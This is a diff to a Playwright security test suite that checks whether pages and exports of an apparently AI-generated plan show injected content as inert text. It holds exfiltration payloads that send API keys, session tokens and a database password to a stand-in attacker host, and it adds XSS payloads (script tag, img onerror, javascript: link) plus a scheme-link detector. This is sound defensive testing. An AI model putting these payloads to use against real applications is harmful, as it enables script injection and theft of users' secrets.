@@ -24,6 +24,11 @@ PAYLOADS = [
     f"![build status](https://{HOST}/pixel.png?d=API_KEY_abc123)",
     f"<https://{HOST}/auto?d=SESSION_token>",
     f"[mirror](//{HOST}/p?d=more)",
+    # No dotted names or calls in the scripts: the plan's checks would take them for
+    # invented code and write the plan anew without them.
+    f"<img src=https://{HOST}/raw.png?d=x onerror=top['pwned']=1>",
+    "<script>top['pwned']=1</script>",
+    "[run the check](javascript:top['pwned']=1)",
 ]
 INJECTED = " ".join(PAYLOADS)
 CODE_FILE = "app/login.py"
@@ -104,6 +109,8 @@ class World:
 
 def record_requests(page: Any, world: World) -> None:
     page.on("request", lambda r: world.requests.append(r.url) if HOST in r.url else None)
+    # A planted script that ran (a <script>, an onerror, a javascript: link) is caught too.
+    page.on("dialog", lambda d: (world.requests.append(f"dialog: {d.message}"), d.dismiss()))
 
 
 @pytest.fixture(scope="module")
@@ -171,10 +178,15 @@ def test_no_page_links_to_or_loads_from_the_attackers_host(name, world, browser)
     assert response is not None and response.ok, response and response.status
     page.wait_for_load_state("networkidle")
     live = page.evaluate(LIVE)
+    ran = page.evaluate("() => top['pwned']")
+    scheme_links = page.evaluate(
+        "() => [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))"
+        ".filter(h => /^\\s*(javascript|data|vbscript|mailto|xmpp):/i.test(h))"
+    )
     text = page.locator("body").inner_text()
     page.close()
 
-    assert live == []
+    assert live == [] and scheme_links == [] and ran is None
     assert world.requests == []
     # The address is shown for the reader, or the check proves nothing.
     assert f"https://{HOST}/steal?d=DB_PASSWORD_hunter2" in text, f"{name} shows no payload"
@@ -196,11 +208,19 @@ def live_markdown(text: str) -> list[str]:
     return found
 
 
-@pytest.mark.parametrize("kind", ["github", "handoff", "json"])
+EXPORTS = {
+    "github": "plan/export/github/",
+    "handoff": "plan/export/handoff/",
+    "json": "plan/export/json/",
+    "download": "plan.md",
+}
+
+
+@pytest.mark.parametrize("kind", list(EXPORTS))
 def test_every_export_carries_the_address_as_inert_text(kind, world, browser):
     page = browser.new_page()
     log_in(page, world.server)
-    response = page.request.get(f"{world.server.url}/sessions/{world.session}/plan/export/{kind}/")
+    response = page.request.get(f"{world.server.url}/sessions/{world.session}/{EXPORTS[kind]}")
     body = response.text()
     page.close()
 
